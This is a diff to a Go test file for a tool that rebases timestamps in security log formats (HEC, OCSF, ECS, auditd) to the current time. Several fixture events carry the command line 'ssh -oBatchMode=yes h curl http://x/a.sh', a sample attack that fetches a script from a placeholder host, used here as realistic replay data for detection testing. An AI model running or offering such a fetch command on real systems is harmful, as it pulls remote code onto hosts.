@@ -2,6 +2,7 @@ package main
 
 import (
 	"bytes"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -59,6 +60,14 @@ func TestRebaseEveryTimeForm(t *testing.T) {
 			[]string{`"_time":"2026-11-04T12:23:00+01:00",`}, true},
 		{"CIM RFC 3339 string with a zero offset", strings.Replace(cim, "%s", `"2026-11-02T09:53:00+00:00"`, 1),
 			[]string{`"_time":"2026-11-04T11:23:00+00:00",`}, true},
+		{"HEC time in seconds around an object event", `{"time":1793613543.111,"host":"web-01","event":{"process_name":"ssh","process":"ssh -oBatchMode=yes h curl http://x/a.sh","user":"root"}}`,
+			[]string{`"time":1793791743.111,`}, true},
+		{"OCSF time in milliseconds", `{"class_uid":1007,"activity_id":1,"device":{"hostname":"web-01"},"actor":{"user":{"name":"root"}},"process":{"name":"ssh","cmd_line":"ssh -oBatchMode=yes h curl http://x/a.sh","pid":7},"time":1793613543111}`,
+			[]string{`"time":1793791743111}`}, true},
+		{"ECS numeric @timestamp in milliseconds", `{"@timestamp":1793613543111,"event":{"category":["process"],"type":["start"]},"host":{"name":"web-01"},"user":{"name":"root"},"process":{"name":"ssh","command_line":"ssh -oBatchMode=yes h curl http://x/a.sh","pid":7}}`,
+			[]string{`"@timestamp":1793791743111,`}, true},
+		{"auditd record stamp", `node=web-01 type=SYSCALL msg=audit(1793613543.111:7): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=4000 pid=4242 auid=1000 uid=0 gid=0 euid=0 comm="ssh" exe="/usr/bin/ssh" key=(null)`,
+			[]string{`msg=audit(1793791743.111:7): `}, false},
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
@@ -93,6 +102,24 @@ func TestRebaserAimsFirstEventAtNow(t *testing.T) {
 	}
 	if got := eventTime(t, rb.apply([]byte(first))); !got.Equal(now) {
 		t.Fatalf("first event rebased to %s, want %s", got, now)
+	}
+}
+
+// An auditd log (no single line is an event) is aimed by its first
+// record's stamp.
+func TestRebaserAimsAuditdAtNow(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "audit.log")
+	sys := `type=SYSCALL msg=audit(1793613600.100:7): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=2 comm="ls" exe="/usr/bin/ls"`
+	if err := os.WriteFile(path, []byte(sys+"\n"+`type=EXECVE msg=audit(1793613600.100:7): argc=1 a0="ls"`+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	now := time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)
+	rb, err := newRebaser(lineReader{max: defaultMaxRecordBytes}, []string{path}, now)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got, want := string(rb.apply([]byte(sys))), fmt.Sprintf("msg=audit(%d.000:7)", now.Unix()); !strings.Contains(got, want) {
+		t.Fatalf("first record rebased to %q, want %s", got, want)
 	}
 }
 
